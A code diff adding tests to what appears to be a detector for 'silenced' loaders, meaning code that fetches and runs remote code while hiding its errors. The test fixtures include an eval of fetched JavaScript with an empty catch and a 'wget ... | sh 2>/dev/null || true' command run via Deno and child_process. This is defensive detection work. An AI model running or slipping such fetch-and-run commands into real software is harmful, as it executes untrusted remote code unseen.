@@ -123,4 +123,25 @@ describe('silenced-loader', () => {
     assert.equal(find('python', code, only(['silenced-loader'])).length, 1);
     assert.deepEqual(find('python', code.replace(' || true', ''), only(['silenced-loader'])), []);
   });
+
+  it('finds handlers around calls of functions that fetch and run', () => {
+    const code = (handler: string) =>
+      `import requests\ndef load():\n    ${LOADER}\ndef main():\n    try:\n        load()\n    ${handler}\n`;
+    assert.deepEqual(marked('python', code('except Exception:\n        pass')), ['except Exception']);
+    assert.deepEqual(marked('python', code('except Exception as error:\n        print(error)')), []);
+    const stage = "async function stage() { eval(await fetch('https://example.com/s.js').then((it) => it.text())); }";
+    assert.deepEqual(marked('javascript', `${stage}\nstage().catch(() => {});\n`), ['() => {}']);
+  });
+
+  it('reads the commands that stand in lists of words', () => {
+    for (const call of [
+      "new Deno.Command('sh', { args: ARGS })",
+      "require('child_process').execFileSync('sh', ARGS)",
+    ]) {
+      const found = (command: string) =>
+        marked('javascript', `${call.replace('ARGS', JSON.stringify(['-c', command]))}\n`).length;
+      assert.equal(found('wget -qO- https://example.com/install | sh 2>/dev/null || true'), 1, call);
+      assert.equal(found('wget -qO- https://example.com/install | sh'), 0, call);
+    }
+  });
 });
